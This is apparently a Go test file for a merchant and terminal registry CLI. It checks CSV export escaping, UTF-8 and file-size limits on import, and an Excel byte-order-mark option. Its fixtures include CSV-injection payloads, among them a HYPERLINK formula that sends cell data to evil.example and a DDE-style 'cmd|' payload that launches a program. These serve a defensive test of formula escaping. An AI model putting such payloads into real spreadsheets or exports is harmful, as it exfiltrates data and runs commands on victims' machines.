package regtool

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/switchyard/switchyard/switch/registry"
)

// hostile are values a spreadsheet would run as formulas (OWASP "CSV injection"),
// and one that already starts with the quote that guards them, which the import
// takes off as a spreadsheet does.
var hostile = []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "'=already quoted"}

// formulaCell says whether a spreadsheet would take cell for a formula.
func formulaCell(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && strings.Trim(cell, "-+0123456789.") != ""
}

// TestCLICSVFormulaCells imports merchants with hostile names and a terminal with a
// hostile device serial, writes them with merchant list --csv and
// terminal list --csv, finds no cell a spreadsheet would run, and imports the files
// into another registry: the same names and serial.
func TestCLICSVFormulaCells(t *testing.T) {
	a, b := newEnv(t), newEnv(t)
	dir := t.TempDir()
	var m strings.Builder
	m.WriteString("merchant_id,name,mcc,region,tier\n")
	w := csv.NewWriter(&m)
	ids := []string{"MX0000000000001", "MX0000000000002", "MX0000000000003", "MX0000000000004", "MX0000000000005"}
	for i, name := range hostile {
		_ = w.Write([]string{ids[i], name, "5812", "CN-SH", "micro"})
	}
	w.Flush()
	mfile := filepath.Join(dir, "m.csv")
	tfile := filepath.Join(dir, "t.csv")
	if err := os.WriteFile(mfile, []byte(m.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(tfile, []byte("terminal_id,merchant_id,kind,device_serial\nT6000001,MX0000000000001,pos,=1+SN\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	a.mustRun(t, op, "merchant", "import", mfile)
	a.mustRun(t, rev, "change", "approve", "CHG-1")
	a.mustRun(t, op, "terminal", "import", tfile)
	a.mustRun(t, rev, "change", "approve", "CHG-2")

	written := map[string]string{}
	for _, list := range [][]string{{"merchant", "list", "--csv"}, {"terminal", "list", "--merchant", "MX0000000000001", "--csv"}} {
		out := a.mustRun(t, an, list...)
		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v\n%s", list, err, out)
		}
		var keep [][]string
		for i, rec := range recs {
			for _, cell := range rec {
				if formulaCell(cell) {
					t.Errorf("%s: line %d has the formula cell %q", strings.Join(list, " "), i+1, cell)
				}
			}
			if i == 0 || strings.HasPrefix(rec[0], "MX") || strings.HasPrefix(rec[0], "T6") {
				keep = append(keep, rec)
			}
		}
		var sb strings.Builder
		cw := csv.NewWriter(&sb)
		_ = cw.WriteAll(keep)
		written[list[0]] = sb.String()
	}
	if !strings.Contains(written["merchant"], `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`) || !strings.Contains(written["merchant"], ",'=already quoted,") {
		t.Errorf("merchant list --csv:\n%s", written["merchant"])
	}
	for i, kind := range []string{"merchant", "terminal"} {
		f := filepath.Join(dir, kind+"-moved.csv")
		if err := os.WriteFile(f, []byte(written[kind]), 0o600); err != nil {
			t.Fatal(err)
		}
		b.mustRun(t, op, kind, "import", f)
		b.mustRun(t, rev, "change", "approve", []string{"CHG-1", "CHG-2"}[i])
	}
	if m5, _ := a.reg.Merchant(ids[4]); m5 == nil || m5.Name != "=already quoted" {
		t.Errorf("%s imported: %+v, want the name without its guard quote", ids[4], m5)
	}
	for i, name := range hostile[:4] {
		if mb, ok := b.reg.Merchant(ids[i]); !ok || mb.Name != name {
			t.Errorf("%s moved: %+v, want the name %q", ids[i], mb, name)
		}
	}
	if m5, _ := b.reg.Merchant(ids[4]); m5 == nil || m5.Name != "=already quoted" {
		t.Errorf("%s moved: %+v", ids[4], m5)
	}
	if tb, ok := b.reg.Terminal("T6000001"); !ok || tb.Binding.DeviceSerial != "=1+SN" {
		t.Errorf("T6000001 moved: %+v", tb)
	}
}

// TestCLIImportNotUTF8 sends a GBK file as it is: the registry refuses it naming
// the line (inside JSON its bytes became U+FFFD, and the other rows were imported).
func TestCLIImportNotUTF8(t *testing.T) {
	e := newEnv(t)
	file := filepath.Join(t.TempDir(), "gbk.csv")
	in := "merchant_id,name,mcc,region,tier\nMX0000000000001,Plain,5812,CN-SH,micro\nMX0000000000002,\xc9\xcf\xba\xa3,5812,CN-SH,micro\n"
	if err := os.WriteFile(file, []byte(in), 0o600); err != nil {
		t.Fatal(err)
	}
	code, out, errs := e.run(t, op, "merchant", "import", file)
	if code == ExitOK || !strings.Contains(errs, "line 3") || !strings.Contains(errs, "UTF-8") || strings.Contains(out, "requested") {
		t.Errorf("GBK file: exit %d\n%s%s", code, out, errs)
	}
}

// TestCLIImportTooLarge refuses a file over registry.MaxImportBytes before reading
// it, saying to split it.
func TestCLIImportTooLarge(t *testing.T) {
	e := newEnv(t)
	file := filepath.Join(t.TempDir(), "huge.csv")
	if err := os.WriteFile(file, []byte("terminal_id,merchant_id,kind\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(file, registry.MaxImportBytes+1); err != nil { // sparse: nothing written
		t.Fatal(err)
	}
	code, out, errs := e.run(t, op, "terminal", "import", file)
	if code != ExitError || !strings.Contains(errs, "over the 64 MB") || !strings.Contains(errs, "split it") {
		t.Errorf("a 64 MB file: exit %d\n%s%s", code, out, errs)
	}
}

// TestCLICSVForExcel: merchant list --csv --excel (and terminal list) begins with
// the UTF-8 byte order mark, so that Excel shows a Chinese name as it is instead
// of reading the file as GBK; import reads such a file back into the same names.
// Without --excel the CSV is as before, without a mark; --excel without --csv is
// refused.
func TestCLICSVForExcel(t *testing.T) {
	a, b := newEnv(t), newEnv(t)
	dir := t.TempDir()
	mfile := filepath.Join(dir, "m.csv")
	if err := os.WriteFile(mfile, []byte("merchant_id,name,mcc,region,tier\nMX0000000000001,星巴克（南京西路店）,5812,CN-SH,micro\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	a.mustRun(t, op, "merchant", "import", mfile)
	a.mustRun(t, rev, "change", "approve", "CHG-1")
	for _, list := range [][]string{{"merchant", "list"}, {"terminal", "list"}} {
		if out := a.mustRun(t, an, append(list, "--csv", "--excel")...); !strings.HasPrefix(out, "\ufeff") {
			t.Errorf("%s --csv --excel: no byte order mark: %q", list, out[:min(len(out), 20)])
		}
		if out := a.mustRun(t, an, append(list, "--csv")...); strings.HasPrefix(out, "\ufeff") {
			t.Errorf("%s --csv: a byte order mark", list)
		}
		if code, _, _ := a.run(t, an, append(list, "--excel")...); code == 0 {
			t.Errorf("%s --excel without --csv: exit 0", list)
		}
	}
	var keep []string // the header (after the mark) and the new merchant: the demo's exist in b too
	for i, line := range strings.SplitAfter(a.mustRun(t, an, "merchant", "list", "--csv", "--excel"), "\n") {
		if i == 0 || strings.HasPrefix(line, "MX") {
			keep = append(keep, line)
		}
	}
	moved := filepath.Join(dir, "moved.csv")
	if err := os.WriteFile(moved, []byte(strings.Join(keep, "")), 0o600); err != nil {
		t.Fatal(err)
	}
	b.mustRun(t, op, "merchant", "import", moved)
	b.mustRun(t, rev, "change", "approve", "CHG-1")
	if m, ok := b.reg.Merchant("MX0000000000001"); !ok || m.Name != "星巴克（南京西路店）" {
		t.Errorf("imported from the Excel CSV: %+v", m)
	}
}
